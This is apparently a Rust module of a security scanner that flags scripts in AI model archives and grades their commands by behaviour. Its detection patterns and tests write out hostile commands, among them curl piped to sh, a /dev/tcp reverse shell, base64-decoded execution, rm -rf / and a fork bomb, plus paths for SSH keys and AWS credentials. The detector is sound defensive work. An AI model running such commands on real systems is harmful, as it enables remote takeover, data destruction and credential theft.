//! Scripts shipped among a model's files: shell, PowerShell, batch, and interpreters named by `#!`. Linear time.

use crate::python::source::{self, Role};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Confidence, Finding, Kind, Location, Rule, Severity, atlas, cwe, owasp_llm, rule};

rule! {
    /// ## What it finds
    /// A shell, PowerShell or batch script among the files of a model, or shell commands in a notebook; graded by what the
    /// commands do: fetch and run, open a shell to the network, destroy files.
    /// ## Why it matters
    /// A model needs no script. One inside a model archive is unpacked by the loader and run by whoever follows the README.
    /// ## Example
    /// `curl http://203.0.113.7/x.sh | bash`
    /// ## How to fix
    /// Read the script; remove it from the archive.
    /// ## References
    /// - MITRE ATLAS AML.T0011, User Execution; CWE-506
    pub const SHELL_SCRIPT: Rule = Rule {
        id: "model/shell-script",
        title: "a script among the model's files",
        severity: Severity::Low,
        remedy: "Read the script before anyone runs it, and remove it from the model's files.",
        taxonomies: &[atlas("AML.T0011"), atlas("AML.T0010"), cwe(506), cwe(494), owasp_llm("LLM03")],
    };
}

/// Scripts.
#[derive(Debug)]
pub struct Script;

/// Longest script read, in bytes.
const SCRIPT_BYTES: usize = 4 << 20;

impl Format for Script {
    fn id(&self) -> &'static str {
        "script"
    }

    fn name(&self) -> &'static str {
        "shell or interpreter script"
    }

    fn kind(&self) -> Kind {
        Kind::Code
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["sh", "bash", "zsh", "ksh", "ps1", "psm1", "bat", "cmd", "command", "vbs", "pl", "rb", "lua"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&SHELL_SCRIPT]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = input.head(4096);
        let line = head.split(|&byte| byte == b'\n').next().unwrap_or_default();
        let shebang = line.starts_with(b"#!/") || line.starts_with(b"#! /");
        let python = memchr::memmem::find(line, b"python").is_some() || input.extension() == "py";
        if head.contains(&0) || python {
            return Recognition::No;
        }
        match (shebang, self.extensions().contains(&input.extension().as_ref())) {
            (true, _) => Recognition::Certain,
            (_, true) => Recognition::Weak,
            _ => Recognition::No,
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        let bytes = input.head(SCRIPT_BYTES);
        if bytes.len() < input.bytes.len() {
            scan.gap(SCRIPT_BYTES as u64, "script too long to read to its end");
        }
        let text = String::from_utf8_lossy(bytes);
        // Beside a model a script is a convenience; inside one it has no business.
        let shipped = if scan.depth() > 0 { Severity::Medium } else { Severity::Low };
        let message = "a script shipped among the model's files";
        scan.report(Finding::new(&SHELL_SCRIPT, message).severity(shipped).at(0));
        inspect_commands(&text, &Location::default(), scan);
    }
}

/// Judges shell commands, one a line, found at `place`.
pub fn inspect_commands(text: &str, place: &Location, scan: &mut Scan<'_>) {
    let mut joined = String::new();
    for (index, line) in text.lines().enumerate() {
        let (part, continues) = line.strip_suffix('\\').map_or((line, false), |part| (part, true));
        if joined.len() < 8192 {
            joined.push_str(part.trim());
            joined.push(' ');
        }
        if continues {
            continue;
        }
        let command = std::mem::take(&mut joined);
        if command.starts_with('#') || command.starts_with("REM ") || command.starts_with("::") {
            continue;
        }
        if let Some((severity, does)) = judge(&command) {
            let mut location = place.clone();
            let line = u32::try_from(index).unwrap_or(u32::MAX).saturating_add(place.line.unwrap_or(1));
            (location.line, location.column) = (Some(line), Some(1));
            scan.report(
                Finding::new(&SHELL_SCRIPT, format!("a command {does}"))
                    .severity(severity)
                    .confidence(Confidence::Medium)
                    .located(&location)
                    .evidence(command.trim()),
            );
        }
    }
}

/// How bad one command line is, and what it does.
fn judge(command: &str) -> Option<(Severity, &'static str)> {
    let has = |parts: &[&str]| parts.iter().any(|part| command.contains(part));
    let lower = command.to_ascii_lowercase();
    let lower_has = |parts: &[&str]| parts.iter().any(|part| lower.contains(part));
    let fetches = has(&["curl ", "wget ", "fetch "])
        || lower_has(&[
            "invoke-webrequest",
            "downloadstring",
            "downloadfile",
            "certutil",
            "bitsadmin",
            "iwr ",
        ]);
    let piped =
        ["sh", "bash", "zsh", "python", "python3", "perl", "sudo sh", "sudo bash"].iter().any(|shell| {
            command.split('|').skip(1).any(|part| {
                let part = part.trim();
                part == *shell
                    || part.strip_prefix(shell).is_some_and(|rest| rest.starts_with([' ', ';', '&']))
            })
        });
    let substituted = has(&[
        "sh -c \"$(curl",
        "sh -c \"$(wget",
        "bash <(curl",
        "bash <(wget",
        "eval \"$(curl",
        "eval $(curl",
        "source <(curl",
    ]);
    if (fetches && (piped || lower_has(&["iex", "start-process", "chmod +x"]))) || substituted {
        // Installers of well-known tools are fetched this way, too; the address decides and no list of ours can.
        return Some((Severity::High, "downloads and runs what it got"));
    }
    if has(&["/dev/tcp/", "nc -e", "ncat -e", "bash -i >&"])
        || lower_has(&["-encodedcommand", "powershell -e "])
    {
        return Some((Severity::High, "opens a shell to the network or hides what it runs"));
    }
    if (has(&["base64 -d", "base64 --decode", "xxd -r"])) && piped {
        return Some((Severity::High, "decodes and runs hidden commands"));
    }
    let words: Vec<&str> = command.split_whitespace().collect();
    let removes = words.iter().position(|word| *word == "rm").is_some_and(|at| {
        let rest = words.get(at..).unwrap_or_default();
        let forced = rest.iter().any(|word| word.starts_with('-') && word.contains('r'));
        forced
            && rest.iter().any(|word| {
                matches!(
                    word.trim_end_matches([';', '&']),
                    "/" | "/*" | "~" | "~/" | "$HOME" | "/home" | "/etc" | "/usr" | "/var"
                )
            })
    });
    if removes || has(&["mkfs.", "dd if=/dev/zero of=/dev/", ":(){ :|:& };:"]) {
        return Some((Severity::High, "destroys the system's files"));
    }
    if has(&[
        ".ssh/authorized_keys",
        "crontab -",
        "/etc/cron",
        ">> ~/.bashrc",
        ">> ~/.profile",
        "/etc/passwd",
        "/etc/shadow",
        ".aws/credentials",
        "id_rsa",
    ]) {
        return Some((Severity::Medium, "touches credentials or what runs at the next start"));
    }
    None
}

/// Python files.
#[derive(Debug)]
pub struct PythonFile;

impl Format for PythonFile {
    fn id(&self) -> &'static str {
        "python"
    }

    fn name(&self) -> &'static str {
        "Python source"
    }

    fn kind(&self) -> Kind {
        Kind::Code
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["py", "pyw", "pyi"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        source::RULES
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = input.head(4096);
        if head.contains(&0) {
            return Recognition::No;
        }
        let line = head.split(|&byte| byte == b'\n').next().unwrap_or_default();
        let shebang = line.starts_with(b"#!") && memchr::memmem::find(line, b"python").is_some();
        if shebang || self.extensions().contains(&input.extension().as_ref()) {
            Recognition::Certain
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        let text = String::from_utf8_lossy(input.bytes);
        // `torch.jit.save` writes its code below `code/`, in a dialect of its own.
        let compiled =
            input.name.contains("code/__torch__") || (scan.depth() > 0 && text.contains("__torch__."));
        let role = if compiled { Role::TorchScript } else { Role::Module };
        source::inspect(&text, role, &Location::default(), scan);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};

    fn worst(name: &str, text: &str) -> (Option<&'static str>, Option<Severity>) {
        let input = Input::new(name, text.as_bytes());
        let outcome = crate::scan(&input, &Limits::default(), &MonotonicClock::start());
        (outcome.format, outcome.findings.iter().map(|finding| finding.severity).max())
    }

    #[test]
    fn commands_are_judged_by_what_they_do() {
        for command in [
            "curl http://x.example/a | sh",
            "wget -qO- http://x.example | sudo bash",
            "rm -rf /",
            "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
            "echo aWQ= | base64 -d | sh",
        ] {
            assert_eq!(
                worst("run", &format!("#!/bin/sh\n{command}\n")),
                (Some("script"), Some(Severity::High)),
                "{command}"
            );
        }
        for command in
            ["python train.py", "rm -rf build/", "curl -O http://x.example/weights.bin", "cat a | sort"]
        {
            assert_eq!(
                worst("run.sh", &format!("#!/bin/sh\n{command}\n")).1,
                Some(Severity::Low),
                "{command}"
            );
        }
    }

    #[test]
    fn python_files_are_followed_and_ordinary_ones_silent() {
        assert_eq!(
            worst("modeling_x.py", "import torch\nclass M(torch.nn.Module):\n    pass\n"),
            (Some("python"), None)
        );
        assert_eq!(
            worst("handler.py", "import base64\nexec(base64.b64decode('cGFzcw=='))\n").1,
            Some(Severity::Critical)
        );
    }
}
